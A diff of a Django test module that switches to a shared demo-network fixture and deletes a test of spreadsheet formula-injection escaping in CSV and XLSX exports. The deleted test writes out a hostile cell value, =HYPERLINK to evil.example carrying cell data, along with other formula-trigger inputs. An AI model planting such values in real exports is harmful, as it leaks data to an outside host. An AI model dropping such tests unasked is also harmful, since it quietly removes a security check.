@@ -16,9 +16,7 @@ import pytest
 from django.urls import reverse
 
 from cascade.audit.models import AuditEntry
-from cascade.demo.network import build_demo_network
 from cascade.network.models import Person
-from cascade.web import lists
 
 pytestmark = pytest.mark.django_db
 
@@ -26,8 +24,9 @@ LISTS = ["web:trainings", "web:people", "web:partners"]
 
 
 @pytest.fixture
-def demo(db):
-    return build_demo_network()
+def demo(demo_network, db):
+    """The demo network, built once for the module (tests/conftest.py)."""
+    return demo_network
 
 
 def read_csv(response) -> list[list[str]]:
@@ -209,21 +208,6 @@ def test_a_trainer_reads_her_people_but_takes_no_list_of_them_away(client, demo,
     assert page.status_code == 200 and "data-downloads" not in page.content.decode()
     assert client.get(reverse("web:people"), {"format": "csv"}).status_code == 403
     assert client.get(reverse("web:trainings"), {"format": "csv"}).status_code == 200
-
-
-def test_text_a_spreadsheet_would_run_is_written_as_text(client, alice, create_organization):
-    create_organization(name='=HYPERLINK("http://evil.example/?"&A1)', short_name="@SUM(1)", city="-2+3")
-    client.force_login(alice)
-    rows = read_csv(client.get(reverse("web:partners"), {"kind": "all", "format": "csv"}))
-    evil = next(r for r in rows if "HYPERLINK" in r[0])
-    assert evil[0] == '\'=HYPERLINK("http://evil.example/?"&A1)' and evil[1] == "'@SUM(1)"
-    assert evil[2].startswith("'-2+3")
-    sheet = openpyxl.load_workbook(io.BytesIO(
-        client.get(reverse("web:partners"), {"kind": "all", "format": "xlsx"}).content)).active
-    cell = next(c for c in sheet["A"] if "HYPERLINK" in str(c.value))
-    assert cell.data_type == "s" and cell.quotePrefix and cell.value.startswith("=HYPERLINK")
-    assert lists.as_csv(["a"], [["\tx"], ["\rx"], ["+1"], [-1]]).decode("utf-8-sig").split("\r\n")[1:5] == [
-        "'\tx", '"\'\rx"', "'+1", "-1"]
 
 
 def test_headers_are_in_the_pages_language_and_a_right_to_left_sheet_reads_right_to_left(client, alice, demo):
